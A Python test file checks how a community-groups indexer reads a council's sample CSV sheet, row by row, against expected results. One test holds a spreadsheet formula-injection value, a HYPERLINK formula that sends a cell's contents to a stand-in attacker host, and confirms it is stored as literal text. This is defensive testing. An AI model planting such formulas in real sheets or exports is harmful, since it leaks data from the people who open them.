"""The council's list of the sample feeds: every row against what must become of it."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from indexer.sources.base import Record
from indexer.sources.sheets import preview
from schemas.listing import load_with_warnings
from tests.sources.sheet_files import canonical, crawl_of

FEEDS = Path(__file__).parents[1] / "data" / "feeds"
FILE = (FEEDS / "council_sheet" / "community_groups.csv").read_bytes()
SHEET = json.loads((FEEDS / "expected.json").read_text(encoding="utf-8"))["feeds"]["council_sheet"]
ROWS = {int(one["source_id"].removeprefix("row ")): one for one in SHEET["records"]}
SHOWN = preview(FILE, "community_groups.csv")
BY_ROW: dict[int, Record] = {SHOWN.rows[record.external_id]: record for record in crawl_of(FILE)[1]}
DAYS = {"MO": "mon", "TU": "tue", "WE": "wed", "TH": "thu", "FR": "fri", "SA": "sat", "SU": "sun"}
NAMED = {code for one in SHEET["records"] for code in one["issues"]}


def test_the_run_counts_what_is_expected() -> None:
    run = SHEET["run"]
    assert SHOWN.header_row == run["header_row"]
    assert SHOWN.encoding == run["encoding"]
    last = max([*SHOWN.rows.values(), *(one.row for one in SHOWN.skipped)])
    assert last == run["rows_in_file"]
    assert len(SHOWN.skipped) == run["skipped"]
    set_aside = [record for record in BY_ROW.values() if record.quarantined]
    assert len(set_aside) == run["quarantined"]
    # Two of them are one group; both stay until a person decides.
    assert len(BY_ROW) == run["groups"]


@pytest.mark.parametrize("number", ROWS)
def test_every_row_becomes_what_is_expected(number: int) -> None:
    expected = ROWS[number]
    if expected["action"] == "skip":
        skipped = {one.row: one.code for one in SHOWN.skipped}
        assert [skipped[number]] == expected["issues"]
        assert number not in BY_ROW
        return
    record = BY_ROW[number]
    found = {issue.code for issue in record.issues}
    assert found & NAMED == set(expected["issues"])
    if expected["action"] == "quarantine":
        assert record.quarantined
        assert record.listing is None
    else:
        assert record.quarantined is None
        for key, value in expected["expect"].items():
            CHECKS[key](canonical(record), value, record)


def test_a_cell_that_is_a_formula_is_kept_as_it_was_written() -> None:
    assert ROWS[9]["expect"] == {"text_kept_literally": True}
    written = BY_ROW[9].raw["cells"]["Name of group"]
    assert written == '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def test_a_heading_is_what_the_rows_below_it_are_about() -> None:
    section = ROWS[11]["expect"]["section_for_following_rows"]
    assert BY_ROW[12].raw["section"] == section
    assert [term.name for term in BY_ROW[12].unmapped_terms] == [section]
    assert all("section" not in BY_ROW[row].raw for row in (5, 6, 7, 10))


def test_the_ages_that_became_a_date_are_asked_and_not_told() -> None:
    listing = canonical(BY_ROW[6])
    assert listing["age"] == {"min": None, "max": None}
    assert "10 to 12" in listing["eligibility"]
    assert "December" not in str(listing)


def test_a_question_mark_says_nothing_about_the_row_above() -> None:
    first, again = canonical(BY_ROW[5]), canonical(BY_ROW[10])
    assert first["venues"][0]["access"]["step_free_entrance"]["state"] == "yes"
    assert again["venues"][0]["access"] == {}
    assert first["id"] != again["id"]


# -- one check for each key of expected.json --------------------------------------------------


def _phones(listing: dict[str, Any]) -> list[str]:
    return [phone for contact in listing["contacts"] for phone in contact["phones"]]


def _sessions(listing: dict[str, Any], wanted: list[dict[str, Any]]) -> None:
    assert len(listing["sessions"]) == len(wanted)
    for session, expected in zip(listing["sessions"], wanted, strict=True):
        assert session["every"] == {"WEEKLY": "week", "MONTHLY": "month"}[expected["freq"]]
        days = expected["byday"].split(",")
        assert session["days"] == list(dict.fromkeys(DAYS[day[-2:]] for day in days))
        assert session["nth"] == [int(day[:-2]) for day in days if day[:-2]]
        assert session["opens"] == expected["opens_at"]
        assert session["closes"] == expected["closes_at"]
        if expected.get("note_contains") == "term time":
            assert session["term_time"] is True


def _venues(listing: dict[str, Any], wanted: list[dict[str, Any]]) -> None:
    assert len(listing["venues"]) == len(wanted)
    for venue, expected in zip(listing["venues"], wanted, strict=True):
        if "postcode" in expected:
            assert venue["postcode"] == expected["postcode"]
        if "same_as" in expected:
            other = canonical(BY_ROW[int(expected["same_as"].removeprefix("row "))])["venues"][0]
            for key in ("name", "address", "postcode"):
                assert venue[key] == other[key]
        access = expected["accessibility"]
        fact = venue["access"].get("step_free_entrance", {"state": "unknown", "note": None})
        assert fact["state"] == access["wheelchair"]
        assert access.get("note_contains", "") in (fact["note"] or "")


def _equal(listing: dict[str, Any], found: Any, wanted: Any) -> None:
    assert found == wanted


CHECKS: dict[str, Any] = {
    "name": lambda listing, value, _: _equal(listing, listing["name"], value),
    "phones": lambda listing, value, _: _equal(listing, _phones(listing), value),
    "emails": lambda listing, value, _: _equal(
        listing, [one["email"] for one in listing["contacts"] if one["email"]], value
    ),
    "url": lambda listing, value, _: _equal(listing, listing["website"], value),
    "costs": lambda listing, value, _: _equal(
        listing, [{"amount": one["amount"]} for one in listing["cost"]["options"]], value
    ),
    "cost_note_contains": lambda listing, value, _: _equal(
        listing, (value in listing["cost"]["note"], listing["cost"]["state"]), (True, "donation")
    ),
    "description_text": lambda listing, value, _: _equal(listing, listing["description"], value),
    "schedules": lambda listing, value, _: _sessions(listing, value),
    "venues": lambda listing, value, _: _venues(listing, value),
    "minimum_age": lambda listing, value, _: _equal(listing, listing["age"]["min"], value),
    "maximum_age": lambda listing, value, _: _equal(listing, listing["age"]["max"], value),
    "assured_date": lambda listing, value, _: _equal(
        listing, listing["sources"][0]["checked_on"], value
    ),
    # A month alone never looks newer than its first day.
    "assured_date_precision": lambda listing, value, _: _equal(
        listing, listing["sources"][0]["checked_on"], f"{value.removeprefix('month ')}-01"
    ),
    "age_guess_needs_confirmation": lambda listing, value, _: _equal(
        listing, f"{value[0]} to {value[1]}" in listing["eligibility"], True
    ),
    "also_online": lambda listing, value, _: _equal(listing, "online" in listing["attend"], value),
    "probable_duplicate_of": lambda listing, value, record: _equal(
        listing,
        value.replace("row", "Row")
        in next(one.reason for one in record.issues if one.code == "probable_duplicate"),
        True,
    ),
}


def test_reading_the_same_list_again_gives_the_same_records() -> None:
    again = {SHOWN.rows[record.external_id]: record for record in crawl_of(FILE)[1]}
    assert {row: record.raw for row, record in again.items()} == {
        row: record.raw for row, record in BY_ROW.items()
    }
    assert [
        load_with_warnings(record.listing)[0] for record in again.values() if record.listing
    ] == [canonical(record) for record in BY_ROW.values() if record.listing]
